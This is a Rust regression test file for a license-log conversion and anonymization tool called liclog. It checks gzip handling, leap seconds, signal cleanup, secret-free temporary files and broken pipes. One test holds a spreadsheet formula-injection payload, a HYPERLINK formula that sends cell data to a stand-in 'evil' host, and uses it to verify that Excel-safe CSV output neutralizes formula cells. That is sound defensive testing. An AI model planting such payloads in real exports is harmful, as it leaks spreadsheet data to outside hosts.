//! One regression test per failure the mutation and fault-injection run
//! found (issue 12), each named after what it guards.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use common::{anchorless_usage, assert_exit, dir_with, gzip, liclog, piped, stderr};

const BANNER: &str = "10:00:00 (lmgrd) FlexNet Licensing (v11.16.2.0 build 1 x64_lsb) started on lic01 (linux) (1/3/2024)\n";

fn jsonl(o: &std::process::Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn convert(dir: &Path, file: &str) -> (Option<i32>, Vec<serde_json::Value>, String) {
    let o = liclog(&["convert", file], dir);
    (o.status.code(), jsonl(&o), stderr(&o))
}

#[test]
fn flexnet_join_after_a_short_message_does_not_panic() {
    let d = dir_with(&[("a.log", b"1:00:00 (lmgrd)\n\n")]);
    let (code, events, err) = convert(d.path(), "a.log");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(events.len(), 2);
}

#[test]
fn flexnet_join_inside_a_multibyte_character_does_not_panic() {
    let d = dir_with(&[("a.log", "23:59:00 (MLM) OUT: \"MATLAB\" ß\n\n".as_bytes())]);
    let (code, events, err) = convert(d.path(), "a.log");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(events.len(), 2);
}

/// `cat a.log.gz b.log.gz` where a.log has no final newline and b.log
/// starts with a BOM: two lines, not one glued line with a BOM inside.
#[test]
fn concatenated_gzip_members_keep_their_lines_apart() {
    let mut both = gzip(b"10:00:00 (lmgrd) last line of a");
    both.extend(gzip(
        "\u{feff}10:00:01 (lmgrd) first line of b\n\n".as_bytes(),
    ));
    let d = dir_with(&[("ab.log.gz", &both)]);
    let (code, events, err) = convert(d.path(), "ab.log.gz");
    assert_eq!(code, Some(0), "{err}");
    let texts: Vec<_> = events.iter().map(|e| e["extra"]["text"].clone()).collect();
    assert_eq!(texts[0], "last line of a");
    assert_eq!(texts[1], "first line of b");
    assert_eq!(events.len(), 3);
}

/// A writer that flushes mid-line starts a new member there: the line runs
/// on, as `zcat` joins it (`pnowak`, not `pnow` and `ak`).
#[test]
fn a_line_split_between_gzip_members_is_one_line() {
    let mut both = gzip(b"10:00:00 (MLM) OUT: \"MATLAB\" pnow");
    both.extend(gzip(b"ak@ws1\n"));
    let d = dir_with(&[("a.log.gz", &both)]);
    let (code, events, err) = convert(d.path(), "a.log.gz");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["user"], "pnowak");
}

#[test]
fn leap_second_is_kept_with_and_without_tz() {
    let log = "# Startup Sentinel RMS License Manager v8.6.0.0036 Mon Aug 25 15:36:23 2014 1408961183 Machine1 197 1708\n\
        2 1 ODA= Sat Dec 31 23:59:60 2016 1483228800 f1 v1 0 1 0 JSmith Machine1 8.6.0.0036 1 c - - - - - 0 - - - MA== 3724690 MTQxMjY4NTg3Nw==\n";
    let d = dir_with(&[("lserv.log", log.as_bytes())]);
    let o = liclog(&["convert", "lserv.log"], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let e = &jsonl(&o)[1];
    assert_eq!(e["time"], "2016-12-31T23:59:60Z");
    assert_eq!(e["time_of_day"], "23:59:60");
    let o = liclog(&["convert", "--tz", "Europe/Madrid", "lserv.log"], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(jsonl(&o)[1]["time"], "2016-12-31T23:59:60+01:00");
    let flex = format!("{BANNER}23:59:60 (MLM) OUT: \"f\" u@h\n");
    let d = dir_with(&[("a.log", flex.as_bytes())]);
    let o = liclog(&["convert", "--tz", "UTC", "a.log"], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(jsonl(&o)[1]["time"], "2024-01-03T23:59:60Z");
}

/// 60,000 undated lines, then the banner: more than the look-back holds.
fn long_undated_log() -> String {
    let mut log = anchorless_usage(60_000);
    log.push_str(BANNER);
    log
}

#[cfg(unix)]
#[test]
fn non_regular_input_is_read_once_like_stdin() {
    let d = dir_with(&[("u.log", long_undated_log().as_bytes())]);
    let bin = env!("CARGO_BIN_EXE_liclog");
    for how in ["<(cat u.log)", "/dev/stdin", "fifo"] {
        let script = match how {
            "fifo" => format!("mkfifo f && (cat u.log > f &) && {bin} convert f"),
            "/dev/stdin" => format!("cat u.log | {bin} convert /dev/stdin"),
            _ => format!("{bin} convert {how}"),
        };
        let o = Command::new("bash")
            .args(["-c", &script])
            .current_dir(d.path())
            .output()
            .unwrap();
        let _ = std::fs::remove_file(d.path().join("f"));
        assert_eq!(o.status.code(), Some(0), "{how}: {}", stderr(&o));
        let events = jsonl(&o);
        assert_eq!(events.len(), 60_001, "{how}");
        assert_eq!(events[60_000]["kind"], "server_start", "{how}");
        assert!(
            stderr(&o).contains("no date anchor within the look-back"),
            "{how}"
        );
    }
}

#[test]
fn over_long_line_becomes_one_unknown_event_and_reading_goes_on() {
    let mut log = BANNER.as_bytes().to_vec();
    log.extend(std::iter::repeat_n(b'x', liclog::lines::MAX_LINE + 1));
    log.extend_from_slice(b"\n10:00:02 (MLM) OUT: \"f\" u@h\n");
    let d = dir_with(&[("a.log", &log)]);
    let (code, events, err) = convert(d.path(), "a.log");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(events.len(), 3);
    assert_eq!(events[1]["kind"], "unknown");
    assert_eq!(events[2]["kind"], "checkout");
    assert!(
        err.contains("a.log:2: line of 16777217 bytes is longer than the 16 MiB limit"),
        "{err}"
    );
    std::fs::write(d.path().join("k.key"), [b'a'; 64]).unwrap();
    let o = liclog(
        &["anonymize", "--key-file", "k.key", "-o", "out.log", "a.log"],
        d.path(),
    );
    assert_exit(
        &o,
        0,
        "a.log:2: line of 16777217 bytes is longer than the 16 MiB limit; only its first KiB is written",
    );
    let out = std::fs::read_to_string(d.path().join("out.log")).unwrap();
    assert_eq!(out.lines().count(), 3);
    assert_eq!(out.lines().nth(1).unwrap().len(), 1024);
}

/// A convert reading stdin that the test holds open, writing to `-o`.
fn held_convert(dir: &Path, out: &str) -> Child {
    let mut child = piped(
        &[
            "convert", "--from", "flexnet", "--to", "csv", "-o", out, "-",
        ],
        dir,
    )
    .spawn()
    .unwrap();
    let stdin = child.stdin.as_mut().unwrap();
    stdin.write_all(BANNER.as_bytes()).unwrap();
    child
}

fn temporary_files(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".liclog"))
        .collect()
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[cfg(unix)]
#[test]
fn signal_during_output_removes_the_temporary_file() {
    for (signal, code) in [("INT", 130), ("TERM", 143)] {
        let d = tempfile::tempdir().unwrap();
        let mut child = held_convert(d.path(), "out.csv");
        wait_until("the temporary output", || {
            !temporary_files(d.path()).is_empty()
        });
        let killed = Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        assert!(killed.success());
        // `wait` would close stdin first: under load the run could then see
        // the end of its input and finish before the signal is handled.
        let stdin = child.stdin.take();
        let mut status = None;
        wait_until("the interrupted run to end", || {
            status = child.try_wait().unwrap();
            status.is_some()
        });
        drop(stdin);
        assert_eq!(status.unwrap().code(), Some(code), "SIG{signal}");
        assert_eq!(
            temporary_files(d.path()),
            Vec::<String>::new(),
            "SIG{signal}"
        );
        assert!(!d.path().join("out.csv").exists());
    }
}

#[cfg(unix)]
#[test]
fn stdin_spool_never_has_a_name() {
    let d = dir_with(&[("k.key", &[b'a'; 64])]);
    let tmp = tempfile::tempdir().unwrap();
    let mut child = piped(
        &[
            "anonymize",
            "--key-file",
            "k.key",
            "--from",
            "flexnet",
            "-o",
            "out.log",
            "-",
        ],
        d.path(),
    )
    .env("TMPDIR", tmp.path())
    .spawn()
    .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(BANNER.as_bytes()).unwrap();
    stdin
        .write_all(b"10:00:01 (MLM) OUT: \"f\" alice@ws1\n")
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let during: Vec<_> = std::fs::read_dir(tmp.path()).unwrap().flatten().collect();
    assert!(
        during.is_empty(),
        "the original input has a name in $TMPDIR: {during:?}"
    );
    drop(stdin);
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0);
    let out = std::fs::read_to_string(d.path().join("out.log")).unwrap();
    assert!(!out.contains("alice") && !out.contains("ws1"), "{out}");
}

/// The first pass writes a name it has not met yet as it stands (the
/// second pass replaces it): a run killed with SIGKILL, which nothing can
/// clean up after, must leave that file unreadable.
#[cfg(unix)]
#[test]
fn sigkill_during_the_first_pass_leaves_no_name_on_disk() {
    let mut log = BANNER.to_string();
    log.push_str("10:00:01 (MLM) note from zzsecretuser on ws-secret-99\n");
    for i in 0..300_000 {
        log.push_str(&format!(
            "10:00:02 (MLM) OUT: \"f\" user{}@ws{}\n",
            i % 500,
            i % 70
        ));
    }
    log.push_str("10:00:03 (MLM) OUT: \"f\" zzsecretuser@ws-secret-99\n");
    let d = dir_with(&[("k.key", &[b'a'; 64]), ("big.log", log.as_bytes())]);
    let mut child = piped(
        &[
            "anonymize",
            "--key-file",
            "k.key",
            "-o",
            "out.log",
            "big.log",
        ],
        d.path(),
    )
    .spawn()
    .unwrap();
    let written = || {
        std::fs::read_dir(d.path())
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().starts_with(".liclog"))
            .map(|e| e.metadata().map_or(0, |m| m.len()))
            .sum::<u64>()
    };
    wait_until("the first pass to write", || written() > 0);
    child.kill().unwrap();
    child.wait().unwrap();
    let left = temporary_files(d.path());
    assert!(
        !left.is_empty(),
        "killed before it wrote: nothing was tested"
    );
    for name in left {
        let bytes = std::fs::read(d.path().join(&name)).unwrap();
        // Once proven clean, the plain text is copied beside the target
        // before the rename: that copy may be left, with pseudonyms only.
        for secret in [&b"zzsecretuser"[..], b"ws-secret-99"] {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret),
                "{name} holds {}",
                String::from_utf8_lossy(secret)
            );
        }
    }
}

#[test]
fn corrupt_gzip_is_an_input_error_with_its_offset() {
    let d = dir_with(&[("bad.log.gz", b"\x1f\x8b\x08\x00garbage-not-deflate")]);
    let o = liclog(&["convert", "bad.log.gz"], d.path());
    assert_exit(&o, 3, "bad.log.gz: corrupt gzip");
    assert_exit(&o, 3, "at compressed byte");
}

#[test]
fn trailing_data_after_gzip_member_is_named_as_such() {
    let mut data = gzip(BANNER.as_bytes());
    let end = data.len();
    data.extend_from_slice(b"junk after the member");
    let d = dir_with(&[("t.log.gz", &data)]);
    let o = liclog(&["convert", "t.log.gz"], d.path());
    let expected = format!("t.log.gz: trailing data after gzip member at compressed byte {end}");
    assert_exit(&o, 3, &expected);
    assert_eq!(jsonl(&o).len(), 1, "what came before is kept");
}

#[test]
fn an_empty_directory_is_an_input_that_gave_nothing() {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir(d.path().join("logs")).unwrap();
    let o = liclog(&["convert", "logs"], d.path());
    assert_exit(&o, 3, "logs: no file found");
}

#[test]
fn output_errors_name_the_users_path() {
    let d = dir_with(&[("a.log", BANNER.as_bytes())]);
    let o = liclog(&["convert", "-o", "missing/out.csv", "a.log"], d.path());
    assert_exit(&o, 4, "writing missing/out.csv: ");
    assert!(!stderr(&o).contains(".liclog-"), "{}", stderr(&o));
    if Path::new("/dev/full").exists() {
        let o = liclog(&["convert", "-o", "/dev/full", "a.log"], d.path());
        assert_exit(&o, 4, "writing /dev/full: No space left");
    }
}

#[test]
fn anonymize_keeps_what_was_read_of_a_truncated_gzip() {
    let log = format!(
        "{BANNER}10:00:01 (MLM) OUT: \"f\" alice@ws1\n10:00:02 (MLM) IN: \"f\" alice@ws1\n"
    );
    let whole = gzip(log.repeat(200).as_bytes());
    let cut = &whole[..whole.len() - 20];
    let d = dir_with(&[("cut.log.gz", cut), ("k.key", &[b'a'; 64])]);
    let o = liclog(
        &[
            "anonymize",
            "--key-file",
            "k.key",
            "-o",
            "out.log.gz",
            "cut.log.gz",
        ],
        d.path(),
    );
    assert_exit(&o, 3, "gzip data ends early");
    let mut text = String::new();
    std::io::Read::read_to_string(
        &mut flate2::read::GzDecoder::new(
            std::fs::File::open(d.path().join("out.log.gz")).unwrap(),
        ),
        &mut text,
    )
    .unwrap();
    assert!(text.lines().count() > 500, "the readable part is written");
    assert!(!text.contains("alice"));
}

#[test]
fn anonymize_stops_at_a_broken_pipe() {
    let d = dir_with(&[("k.key", &[b'a'; 64])]);
    let mut child = piped(
        &[
            "anonymize",
            "--no-verify",
            "--key-file",
            "k.key",
            "--from",
            "flexnet",
            "-",
        ],
        d.path(),
    )
    .spawn()
    .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let feeder = std::thread::spawn(move || {
        let line = b"10:00:01 (MLM) OUT: \"f\" alice@ws1\n".repeat(10_000);
        let mut sent = 0u64;
        for _ in 0..2_000 {
            if stdin.write_all(&line).is_err() {
                return sent;
            }
            sent += 1;
        }
        sent
    });
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(first.contains("OUT"), "{first}");
    // The reader is gone: liclog must notice and stop reading.
    let status = child.wait().unwrap();
    let sent = feeder.join().unwrap();
    assert_eq!(status.code(), Some(0));
    assert!(
        sent < 2_000,
        "liclog read the whole input after the pipe closed"
    );
}

#[test]
fn excel_output_guards_formula_cells() {
    let evil = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
    let log = format!("{BANNER}10:00:01 (MLM) OUT: \"f\" {evil}@ws1\n");
    let d = dir_with(&[("a.log", log.as_bytes())]);
    let o = liclog(&["convert", "--to", "csv", "--excel", "a.log"], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let csv = String::from_utf8(o.stdout).unwrap();
    let row = csv.lines().nth(2).unwrap();
    assert!(row.contains(",\"'=HYPERLINK(\"\"http://evil/"), "{row}");
    let o = liclog(&["convert", "--to", "csv", "a.log"], d.path());
    let plain = String::from_utf8(o.stdout).unwrap();
    assert!(
        plain.lines().nth(2).unwrap().contains(",\"=HYPERLINK("),
        "plain CSV stays exact"
    );
}

/// Found by the bounded fuzzing: a TIMEZONE record with an absurd offset
/// overflowed when turned into seconds.
#[test]
fn rlm_timezone_out_of_range_does_not_overflow() {
    let log = "RLM Report Log Format 0, version 12.3, authenticated\n\
        TIMEZONE 222222222 0 # nowhere\n\
        TIMEZONE -2147483648 0 # nowhere\n\
        TIMEZONE 300 0 # EST\n\
        START lic01 01/03/2024 10:00\n";
    let d = dir_with(&[("report.log", log.as_bytes())]);
    let (code, events, err) = convert(d.path(), "report.log");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(events.len(), 5);
    assert_eq!(events[4]["time"], "2024-01-03T10:00:00-05:00");
}
